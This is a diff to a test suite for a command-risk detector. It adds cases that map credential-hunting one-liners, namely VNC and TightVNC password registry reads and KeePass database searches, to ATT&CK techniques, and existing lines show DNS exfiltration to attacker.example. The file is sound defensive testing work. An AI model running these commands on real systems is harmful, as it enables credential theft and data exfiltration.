@@ -631,6 +631,11 @@ describe('fifteenth round: procedures the one-liner gate let past the model as r
     ['a file sent in a ping name', 'ping -c 1 $(cat /etc/hostname | base64).attacker.example', 'exfil.dns_lookup_output', 'T1048.003'],
     ['backticks in an nslookup name', 'nslookup `whoami`.attacker.example 203.0.113.9', 'exfil.dns_lookup_output', 'T1048.003'],
     ["PowerShell's history read from its full path", 'Get-Content $env:APPDATA\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt', 'cred.shell_history', 'T1552.003'],
+    ["a VNC server's password read", 'reg query "HKCU\\Software\\ORL\\WinVNC3\\Password"', 'cred.vnc_password', 'T1552.002'],
+    ["TightVNC's password read", 'reg query HKLM\\SOFTWARE\\TightVNC\\Server /v Password', 'cred.vnc_password', 'T1552.002'],
+    ['user folders searched for KeePass databases', 'Get-ChildItem -Path C:\\Users -Include *.kdbx -Recurse -ErrorAction SilentlyContinue', 'cred.password_manager_search', 'T1555.005'],
+    ['the file system searched for KeePass databases', 'find / -name "*.kdbx" 2>/dev/null', 'cred.password_manager_search', 'T1555.005'],
+    ['a drive searched with dir /s', 'dir /s /b C:\\*.kdbx', 'cred.password_manager_search', 'T1555.005'],
   ])('%s', (_n, text, id, tech) => {
     const f = technique(text, id);
     expect(f).toBeDefined();
@@ -645,6 +650,9 @@ describe('fifteenth round: procedures the one-liner gate let past the model as r
     ['the host name looked up', 'dig +short $(hostname -f)'],
     ['a ping of the gateway', 'ping -c 3 $(ip route | awk \'/default/ {print $3}\')'],
     ['a lookup of a fixed name', 'nslookup api.example.com 10.0.0.53'],
+    ["TightVNC's port read", 'reg query HKLM\\SOFTWARE\\TightVNC\\Server /v RfbPort'],
+    ['a KeePass database copied to a backup share', 'Copy-Item D:\\vault\\team.kdbx \\\\backup\\keepass\\'],
+    ['a KeePass database opened', 'keepassxc-cli open ~/db.kdbx'],
   ])('%s stays at low or below', (_n, text) => {
     expect(['info', 'low']).toContain(worst(text));
   });
